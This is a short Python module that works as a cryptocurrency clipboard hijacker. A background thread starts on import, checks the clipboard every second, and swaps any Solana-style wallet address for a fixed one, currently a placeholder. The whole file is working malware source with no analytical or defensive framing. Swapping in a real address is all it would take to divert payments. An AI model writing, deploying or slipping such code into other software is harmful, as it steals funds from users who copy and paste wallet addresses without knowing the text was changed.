import re
import shutil
import subprocess
import threading
import time

SOL = re.compile(r"\b[1-9A-HJ-NP-Za-km-z]{32,44}\b")
MINE = "FAKEso1PLACEHOLDERxxxxxxxxxxxxxxxxxxxxxxx"


def _get():
    try:
        import pyperclip

        return pyperclip.paste()
    except Exception:
        pass
    if shutil.which("xclip"):
        return subprocess.run(["xclip", "-selection", "clipboard", "-o"], capture_output=True, text=True).stdout
    if shutil.which("pbpaste"):
        return subprocess.run(["pbpaste"], capture_output=True, text=True).stdout
    return ""


def _set(t):
    try:
        import pyperclip

        pyperclip.copy(t)
        return
    except Exception:
        pass
    if shutil.which("xclip"):
        subprocess.run(["xclip", "-selection", "clipboard"], input=t, text=True)
    elif shutil.which("pbcopy"):
        subprocess.run(["pbcopy"], input=t, text=True)


def _loop():
    while True:
        t = _get() or ""
        if SOL.search(t) and MINE not in t:
            _set(SOL.sub(MINE, t))
        time.sleep(1)


threading.Thread(target=_loop, daemon=True).start()
